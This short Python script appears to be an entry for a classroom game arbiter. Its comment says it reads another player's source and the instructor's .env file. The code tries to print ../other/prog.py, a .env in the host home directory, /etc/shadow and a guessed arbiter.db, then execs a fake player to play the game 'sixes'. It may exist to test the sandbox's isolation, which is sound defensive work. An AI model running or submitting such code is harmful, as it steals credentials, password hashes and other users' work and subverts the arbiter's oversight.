# Reads another player's source and the instructor's .env from Python,
# then plays.
import os
for path in ["../other/prog.py", os.environ.get("HOST_HOME", "/root") + "/.env", "/etc/shadow",
             os.environ.get("DATA_DIR_GUESS", "data") + "/arbiter.db"]:
    try:
        with open(path) as f:
            print(f.read())
    except OSError as e:
        print("cannot read", path, e)
os.execv("./fakeclass", ["./fakeclass", "-game", "sixes"])
